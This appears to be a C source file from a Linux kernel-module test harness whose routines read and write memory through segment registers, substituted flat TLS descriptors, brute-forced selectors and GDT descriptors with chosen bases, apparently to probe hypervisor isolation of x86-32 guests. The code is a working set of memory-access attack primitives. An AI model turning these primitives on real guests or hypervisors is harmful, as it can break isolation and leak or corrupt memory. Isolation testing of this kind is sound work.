// SPDX-License-Identifier: GPL-2.0-only
/* Attacks by segments. Memory is accessed by each segment register, by selectors and
 * descriptors. */
#include <linux/kernel.h>
#include <linux/preempt.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <asm/desc.h>
#include <asm/segment.h>

#include "gandalf_attack.h"

/* The C library has this entry of the GDT, which is the first TLS descriptor. */
#define FLAT_ENTRY GDT_ENTRY_TLS_MIN
#define FLAT_SELECTOR (FLAT_ENTRY * 8 + 3)

/* Use ACCESS, a macro, with the register that SEGMENT names. The first takes registers that can be
 * loaded, the second any. */
#define BY_DATA_SEGMENT(segment, access)				\
	if (!strcmp(segment, "ds"))					\
		access("ds");						\
	else if (!strcmp(segment, "es"))				\
		access("es");						\
	else if (!strcmp(segment, "fs"))				\
		access("fs");						\
	else if (!strcmp(segment, "gs"))				\
		access("gs");						\
	else if (!strcmp(segment, "ss"))				\
		access("ss")
#define BY_SEGMENT(segment, access)					\
	if (!strcmp(segment, "cs"))					\
		access("cs");						\
	else								\
		BY_DATA_SEGMENT(segment, access)

#define READ_BY(register)						\
	TRY(faulted, "1: movl %%" register ":(%[a]), %[v]",		\
	    [v] "=&r" (*value), [a] "r" (address))
#define WRITE_BY(register)						\
	TRY(faulted, "1: movl %[v], %%" register ":(%[a])", NO_OUTPUT,	\
	    [v] "r" (value), [a] "r" (address))

u32 attack_read_segment(const char *segment, u32 address, u32 *value)
{
	u32 faulted = 1;

	BY_SEGMENT(segment, READ_BY);
	return faulted;
}

u32 attack_write_segment(const char *segment, u32 address, u32 value)
{
	u32 faulted = 1;

	BY_SEGMENT(segment, WRITE_BY);
	return faulted;
}

static enum outcome attack_read(struct request *request)
{
	u32 faulted = attack_read_segment(request->segment, request->argument[0], &request->value);

	return outcome_of(faulted, OUTCOME_READ);
}

static enum outcome attack_write(struct request *request)
{
	u32 faulted = attack_write_segment(request->segment, request->argument[0],
					   request->argument[1]);

	return outcome_of(faulted, OUTCOME_WROTE);
}

/*
 * Loads SELECTOR into a segment register, reads or writes through it, and puts the old selector
 * back. In between nothing else uses memory by the changed register, which the compiler might do if
 * these were several statements.
 */
#define THROUGH(register)						\
	asm volatile("movl $1, %[fault]\n\t"				\
		     "movl %%" register ", %[old]\n\t"			\
		     "1: movl %[selector], %%" register "\n\t"		\
		     "testl %[store], %[store]\n\t"			\
		     "jnz 3f\n\t"					\
		     "2: movl %%" register ":(%[address]), %[value]\n\t"\
		     "jmp 4f\n"						\
		     "3: movl %[value], %%" register ":(%[address])\n"	\
		     "4: movl $0, %[fault]\n"				\
		     "5: movl %[old], %%" register "\n"			\
		     _ASM_EXTABLE(1b, 5b)				\
		     _ASM_EXTABLE(2b, 5b)				\
		     _ASM_EXTABLE(3b, 5b)				\
		     : [fault] "=&r" (faulted), [old] "=&r" (old),	\
		       [value] "+&r" (data)				\
		     : [selector] "r" (selector), [store] "r" (store),	\
		       [address] "r" (address)				\
		     : "memory", "cc")

/* Writes *value to ADDRESS, or reads it from there. Returns whether that faulted. */
static u32 access_through(const char *segment, u32 selector, u32 address, u32 *value, u32 store)
{
	u32 faulted = 1, data = *value, old;
	unsigned long flags;

	local_irq_save(flags);
	BY_DATA_SEGMENT(segment, THROUGH);
	local_irq_restore(flags);
	*value = data;
	return faulted;
}

static struct desc_struct flat_descriptor(u32 base)
{
	/* It is present, of DPL 3, and has 4 GiB of data that can be written. */
	struct desc_struct flat = GDT_ENTRY_INIT(0xc0f2, base, 0xfffff);

	return flat;
}

/* Puts a descriptor into the GDT as plain memory, and has the VMM look at the table again. */
void attack_store_descriptor(unsigned int entry, struct desc_struct descriptor)
{
	get_cpu_gdt_rw(smp_processor_id())[entry] = descriptor;
	load_fixmap_gdt(smp_processor_id());
}

/* Makes the first TLS descriptor flat, as the C library does, and reads or writes by it. */
static u32 access_flat(struct request *request, u32 *value, u32 store)
{
	struct thread_struct *thread = &current->thread;
	struct desc_struct kept = thread->tls_array[0];
	u32 faulted, selector;

	preempt_disable();
	thread->tls_array[0] = flat_descriptor(0);
	load_TLS(thread, smp_processor_id());
	faulted = access_through(request->segment, FLAT_SELECTOR, request->argument[0], value,
				 store);
	thread->tls_array[0] = kept;
	load_TLS(thread, smp_processor_id());
	/* The process's own GS still has the flat descriptor in it. */
	savesegment(gs, selector);
	loadsegment(gs, selector);
	preempt_enable();
	return faulted;
}

static enum outcome attack_flat_read(struct request *request)
{
	return outcome_of(access_flat(request, &request->value, 0), OUTCOME_READ);
}

static enum outcome attack_flat_write(struct request *request)
{
	return outcome_of(access_flat(request, &request->argument[1], 1), OUTCOME_WROTE);
}

static enum outcome attack_through(struct request *request)
{
	u32 store = request->arguments > 2;
	u32 faulted;

	request->value = request->argument[2];
	faulted = access_through(request->segment, request->argument[0], request->argument[1],
				 &request->value, store);
	return outcome_of(faulted, store ? OUTCOME_WROTE : OUTCOME_READ);
}

/*
 * Tries every selector in every data segment register, and looks whether any reaches the address.
 * SS is left out: there the 16-bit segments of the guest's own GDT would leave the exception
 * without a stack.
 */
static enum outcome attack_selectors(struct request *request)
{
	static const char *const segments[] = { "ds", "es", "fs", "gs" };
	enum outcome outcome = OUTCOME_FAULT;
	unsigned int i;
	u32 selector, value;

	for (i = 0; i < ARRAY_SIZE(segments); i++) {
		for (selector = 0; selector < SELECTORS; selector++) {
			value = 0;
			if (access_through(segments[i], selector, request->argument[0], &value, 0))
				continue;
			request->value = value;
			outcome = OUTCOME_READ;
		}
	}
	return outcome;
}

/* Makes a data segment of 4 GiB with a base of one's choice. The offset wraps around to the
 * address. */
static enum outcome attack_descriptor(struct request *request)
{
	struct desc_struct kept = get_cpu_gdt_rw(smp_processor_id())[SPARE_ENTRY];
	u32 base = request->argument[0];
	u32 address = request->argument[1];
	u32 store = request->arguments > 2;
	u32 faulted;

	request->value = request->argument[2];
	attack_store_descriptor(SPARE_ENTRY, flat_descriptor(base));
	faulted = access_through("es", SPARE_SELECTOR, address - base, &request->value, store);
	attack_store_descriptor(SPARE_ENTRY, kept);
	return outcome_of(faulted, store ? OUTCOME_WROTE : OUTCOME_READ);
}

const struct attack segment_attacks[] = {
	{ "read", "SEGMENT ADDRESS", true, 1, attack_read },
	{ "write", "SEGMENT ADDRESS VALUE", true, 2, attack_write },
	{ "flat-read", "SEGMENT ADDRESS", true, 1, attack_flat_read },
	{ "flat-write", "SEGMENT ADDRESS VALUE", true, 2, attack_flat_write },
	{ "through", "SEGMENT SELECTOR ADDRESS [VALUE]", true, 2, attack_through },
	{ "selectors", "ADDRESS", false, 1, attack_selectors },
	{ "descriptor", "BASE ADDRESS [VALUE]", false, 2, attack_descriptor },
	{ NULL },
};
